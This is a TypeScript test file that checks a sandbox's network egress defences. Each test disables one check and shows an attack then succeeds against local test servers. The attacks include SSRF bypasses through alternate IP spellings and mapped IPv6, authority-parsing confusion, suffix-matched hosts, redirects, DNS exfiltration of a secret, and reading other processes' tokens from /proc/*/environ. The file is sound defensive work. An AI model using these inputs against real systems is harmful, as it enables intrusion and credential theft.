// Our defences refuse the attacks of the other files, which would otherwise work. Each attack is
// made without one defence, by a tool of tier B, which has the host’s network, or against our own
// egress with one check removed from its source. It works there.

import { createSocket } from 'node:dgram'
import { createServer as createHttp, type Server } from 'node:http'
import { type AddressInfo, createServer as createTcp, type Server as TcpServer } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { Egress, type EgressRules } from '../../../worker/sandbox/network/egress.ts'
import { proxyServer, serveProxy } from '../../../worker/sandbox/network/http-proxy.ts'
import { findHost } from '../../../worker/sandbox/plan/host-programs.ts'
import { type Weakness, weakened } from '../../support/weakened.ts'
import { Arena, attack, attackReport, planOf, processesWith, unique } from '../arena/arena.ts'

const listening = (server: Server | TcpServer): Promise<number> =>
  new Promise((settle) => server.listen(0, '127.0.0.1', () => settle((server.address() as AddressInfo).port))) // the address of a TCP server

let arena: Arena
let inside: Server
let port: number
beforeAll(async () => {
  inside = createHttp((request, answer) => answer.end(`inside says ${request.url}`))
  port = await listening(inside)
  arena = await Arena.open()
})
afterAll(async () => {
  await arena.close()
  inside.close()
})

const curl = async (...args: string[]): Promise<string> =>
  (
    await arena.launch({
      plan: planOf(['curl', '--silent', '--show-error', '--max-time', '8', ...args], { tier: 'B' }),
    })
  ).out
const onHost = async (source: string): Promise<Record<string, unknown>> =>
  attackReport(await arena.launch({ plan: planOf(attack(source), { tier: 'B' }) }))

test('N01 without a network namespace: a tool reaches private servers', async () => {
  expect(await curl(`http://127.0.0.1:${port}/`)).toBe('inside says /')
})

const TOKEN = 'token-of-this-call'
const HOSTS = 'worker/sandbox/network/host-patterns.ts'
const EGRESS = 'worker/sandbox/network/egress.ts'
/** Removes the check of addresses. */
const UNJUDGED: Weakness = [HOSTS, '|| answers.every(isPublic)', '|| answers.length > 0']
/** Accepts any text before the port that WHATWG parses. */
const LOOSE: Weakness = [
  HOSTS,
  String.raw`/^(?:\[[0-9A-Fa-f:.]+\]|[A-Za-z0-9._-]+):([0-9]{1,5})$/`,
  '/:([0-9]{1,5})$/',
]
/** Takes the text before the port as the host, unparsed. */
const UNREAD: readonly Weakness[] = [
  [HOSTS, ' || !URL.canParse(url)', ''],
  [
    HOSTS,
    String.raw`new URL(url).hostname.replace(/^\[(.*)\]$/, '$1').replace(/\.$/, '')`,
    "text.slice(0, text.lastIndexOf(':'))",
  ],
]

/** Our egress with these changes. */
const without = async (...weaknesses: readonly Weakness[]): Promise<typeof Egress> =>
  (await weakened(...weaknesses)<typeof import('../../../worker/sandbox/network/egress.ts')>(EGRESS)).Egress

type Attempt = Partial<EgressRules> & { readonly to: string }

/** The result of a request: the address that was reached, or the refusal. */
async function resultOf(By: typeof Egress, { to, ...rules }: Attempt): Promise<string> {
  const egress = new By({ hosts: [], privateHosts: new Set(), token: TOKEN, limits: {}, ...rules })
  const upstream = await egress.reach(to)
  const where = upstream.ok
    ? `${upstream.value.socket.remoteAddress}:${upstream.value.socket.remotePort}`
    : upstream.error
  egress.close()
  return where
}
const privateServer = (): string => `127.0.0.1:${port}`

test('N02 without the check of addresses: every spelling reaches the same private server', async () => {
  const weak = await without(UNJUDGED)
  for (const spelled of ['2130706433', '0x7f000001', '0177.0.0.1', '127.1', '127.000.0.1']) {
    const attempt = { to: `${spelled}:${port}`, hosts: [privateServer()] }
    expect([await resultOf(Egress, attempt), await resultOf(weak, attempt)], spelled).toEqual([
      'address_refused',
      privateServer(),
    ])
  }
})

test('N03 without the check of the IPv4 address within an IPv6 one: a tool connects to it', async () => {
  const mapped: Weakness = [
    'worker/sandbox/network/public-address.ts',
    'return isPublic(dotted(high, low)) // IPv4-mapped',
    'return true // IPv4-mapped',
  ]
  const weak = await without(mapped)
  for (const answer of ['::ffff:127.0.0.1', '::ffff:7f00:1', '0:0:0:0:0:ffff:7f00:0001']) {
    const attempt = {
      to: `mapped.example:${port}`,
      hosts: [`mapped.example:${port}`],
      resolve: async () => [answer],
    }
    expect(await resultOf(Egress, attempt), answer).toBe('address_refused')
    expect(await resultOf(weak, attempt), answer).toMatch(new RegExp(`127.0.0.1:${port}$`))
  }
})

test('N04 without the check of resolved addresses: a name leads to a private server', async () => {
  const names: Weakness = [
    HOSTS,
    '|| answers.every(isPublic)',
    '|| isIP(to.host) === 0 || answers.every(isPublic)',
  ]
  const weak = await without(names)
  for (const [name, resolve] of [
    ['localhost', undefined],
    ['mixed.example', async () => ['127.0.0.1', '93.184.215.14']],
  ] as const) {
    const attempt = {
      to: `${name}:${port}`,
      hosts: [`${name}:${port}`],
      ...(resolve === undefined ? {} : { resolve }),
    }
    expect([await resultOf(Egress, attempt), await resultOf(weak, attempt)], name).toEqual([
      'address_refused',
      privateServer(),
    ])
  }
})

test('N05 without one strict parser for check and connection: a host other than the checked one is reached', async () => {
  const ownReading: Weakness = [
    EGRESS,
    'hosts, to))',
    "hosts, parseAuthority(/^[^@]*/.exec(authority)?.[0] ?? '') ?? to))",
  ]
  const attempt = {
    to: `listed.example:80@${privateServer()}`,
    hosts: ['listed.example'],
    privateHosts: new Set([privateServer()]),
  }
  const ways = [Egress, await without(ownReading), await without(LOOSE), await without(LOOSE, ownReading)]
  expect(await Promise.all(ways.map((by) => resultOf(by, attempt)))).toEqual([
    'malformed',
    'malformed',
    'host_not_listed',
    privateServer(),
  ])
})

test('N06 not shown here: even if our parser let NUL pass, Node connects to no name with it', async () => {
  const to = `inside.example\0.ok.example:${port}`
  const resolve = async (host: string): Promise<string[]> =>
    host.split('\0', 1)[0] === 'inside.example' ? ['127.0.0.1'] : [] // as C does
  const attempt = { to, hosts: [`.ok.example:${port}`], privateHosts: new Set([to]), resolve }
  for (const by of [Egress, await without(LOOSE), await without(...UNREAD)])
    expect(await resultOf(by, attempt)).toBe('malformed')
  await expect(resultOf(await without(LOOSE, ...UNREAD), attempt)).rejects.toThrow(/without null bytes/)
})

test('N07 without label boundaries: a stranger’s host matches a listed one', async () => {
  const labels: Weakness = ['shared/plan/egress-hosts.ts', ': host === name', ': host.endsWith(name)']
  const to = `evil-ok.com:${port}`
  const attempt = {
    to,
    hosts: [`ok.com:${port}`],
    privateHosts: new Set([to]),
    resolve: async () => ['127.0.0.1'],
  }
  expect([await resultOf(Egress, attempt), await resultOf(await without(labels), attempt)]).toEqual([
    'host_not_listed',
    privateServer(),
  ])
})

test('N08 without a check of each request: a redirect leads to an unlisted host', async () => {
  const elsewhere = createHttp((_request, answer) =>
    answer.writeHead(302, { location: `http://127.0.0.1:${port}/moved` }).end(),
  )
  const first = `127.0.0.1:${await listening(elsewhere)}`
  const unlisted: Weakness = [
    EGRESS,
    "if (!isListed(this.#rules.hosts, to)) return this.refuse('host_not_listed', to)",
    '',
  ]
  const load = weakened(unlisted)
  const weak = {
    ...(await load<typeof import('../../../worker/sandbox/network/egress.ts')>(EGRESS)),
    ...(await load<typeof import('../../../worker/sandbox/network/http-proxy.ts')>(
      'worker/sandbox/network/http-proxy.ts',
    )),
  }
  const followed = async (
    by: Pick<typeof weak, 'Egress' | 'proxyServer' | 'serveProxy'>,
  ): Promise<string> => {
    const proxy = by.proxyServer()
    const rules = {
      hosts: [first],
      privateHosts: new Set([first, privateServer()]),
      token: TOKEN,
      limits: {},
    }
    const hangUp = by.serveProxy(proxy, new by.Egress(rules))
    const at = `http://call:${TOKEN}@127.0.0.1:${await listening(proxy)}`
    const said = await curl('--location', '--proxy', at, `http://${first}/`)
    hangUp()
    proxy.close()
    return said
  }
  expect([await followed({ Egress, proxyServer, serveProxy }), await followed(weak)]).toEqual([
    'host_not_listed\n',
    'inside says /moved',
  ])
  elsewhere.close()
})

test('N09 without connecting to the checked address: a second resolution returns another one', async () => {
  const unpinned: Weakness = [EGRESS, 'lookup: pinnedLookup, ', '']
  const attempt = {
    to: `localhost:${port}`,
    hosts: [`localhost:${port}`],
    resolve: async () => ['93.184.215.14'],
  } // when it is checked
  expect(await resultOf(await without(unpinned), attempt)).toBe(privateServer()) // and what the system says, a moment later
})

test('N10 without a network namespace: a DNS query carries data out', async () => {
  const word = `secret-${unique()}`
  const resolver = createSocket('udp4')
  const heard = new Promise<string>((settle) =>
    resolver.on('message', (question) => settle(question.toString('latin1'))),
  )
  await new Promise<void>((settle) => resolver.bind(0, '127.0.0.1', settle))
  await onHost(`
import socket
label = b'${word}'
question = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(label)]) + label + b'\\7example\\0\\0\\1\\0\\1'
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ('127.0.0.1', ${resolver.address().port}))`)
  expect(await heard).toContain(word)
  resolver.close()
})

test('N12 without the token: a call’s proxy serves every client', async () => {
  const open: Weakness = [
    EGRESS,
    'return given.length === this.#authorization.length && timingSafeEqual(given, this.#authorization)',
    'return true',
  ]
  const weak = await without(open)
  const asked = async (By: typeof Egress): Promise<string> => {
    const proxy = proxyServer()
    const hangUp = serveProxy(
      proxy,
      new By({
        hosts: [privateServer()],
        privateHosts: new Set([privateServer()]),
        token: TOKEN,
        limits: {},
      }),
    )
    const said = await curl(
      '--proxy',
      `http://127.0.0.1:${await listening(proxy)}`,
      `http://${privateServer()}/`,
    )
    hangUp()
    proxy.close()
    return said
  }
  expect([await asked(Egress), await asked(weak)]).toEqual(['unknown client\n', 'inside says /'])
})

test('N12 without the sandbox, in tier B: a tool reads another call’s token from its environment', async () => {
  const [word, token] = [unique(), `token-${unique()}`]
  let other: Promise<unknown> | undefined
  const ready = new Promise<void>((settle) => {
    const plan = planOf(['sh', '-c', `echo ready; exec sleep 30.${word}`], {
      tier: 'B',
      env: { HTTP_PROXY: `http://call:${token}@127.0.0.1:1` },
    })
    other = arena.launch({ plan }, () => settle())
  })
  await ready
  const read = `
import glob
found = []
for path in glob.glob('/proc/*/environ'):
    try: found.append(open(path).read())
    except OSError: pass
tell['found'] = any('${token}' in text for text in found)`
  expect(await onHost(read)).toEqual({ found: true })
  expect(attackReport(await arena.launch({ plan: planOf(attack(read)) }))).toEqual({ found: false })
  for (const pid of processesWith(word)) process.kill(pid, 'SIGKILL')
  await other
})

test('N13 not shown here: the worker starts no user-mode network through which a tool could reach the host', async () => {
  const { programs } = await findHost()
  expect(Object.keys(programs).filter((name) => /pasta|slirp|vpnkit|gvproxy/.test(name))).toEqual([])
})

test('N15 without the proxy: connections are not counted', async () => {
  const server = createTcp((socket) => void socket.on('error', () => socket.destroy()))
  const there = await listening(server)
  const source = `
import socket
held = [socket.create_connection(('127.0.0.1', ${there}), 8) for _ in range(20)]
tell['made'] = len(held)`
  const plan = planOf(attack(source), { tier: 'B', limits: { net_connections: 5 } })
  expect(attackReport(await arena.launch({ plan }))).toEqual({ made: 20 })
  server.close()
})
